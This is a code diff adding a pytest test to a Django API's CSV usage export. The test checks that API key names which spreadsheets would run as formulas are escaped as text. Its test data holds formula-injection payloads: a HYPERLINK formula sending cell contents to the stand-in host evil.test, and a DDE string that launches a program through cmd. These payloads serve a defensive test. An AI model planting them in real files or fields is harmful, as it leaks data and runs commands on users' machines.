@@ -187,6 +187,18 @@ def test_csv_export_round_trips(client, world):
     assert "E-" not in text  # decimals as plain numbers (a zero price was "0E-10")
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+                                  "-2+3", "\tfoo"])
+def test_a_key_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, world, name):
+    """Any member names keys, and whoever opens the export in a spreadsheet must run nothing."""
+    from accounts.models import ApiKey
+
+    ApiKey.objects.filter(pk=world["key_b"].pk).update(name=name)
+    response = client.get("/v1/usage/export.csv", PERIOD, headers=bearer(world["raw_a"]))
+    names = {row["api_key_name"] for row in _parse_csv(b"".join(response.streaming_content).decode())}
+    assert names == {"prod", "", "'" + name}
+
+
 def test_csv_export_fetches_rows_only_while_streaming(client, world):
     from django.db import connection
     from django.test.utils import CaptureQueriesContext
